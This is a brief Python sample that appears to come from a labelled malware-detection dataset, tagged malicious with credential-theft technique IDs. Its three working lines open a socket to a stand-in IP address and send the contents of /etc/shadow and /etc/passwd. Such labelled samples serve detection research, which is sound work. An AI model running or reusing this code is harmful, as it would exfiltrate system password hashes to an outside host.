# label: malicious family=creds techniques=T1003.008,T1041,T1087.001 lines=3-5
import socket
s = socket.create_connection(("203.0.113.44", 9999))
s.sendall(open("/etc/shadow", "rb").read())
s.sendall(open("/etc/passwd", "rb").read())
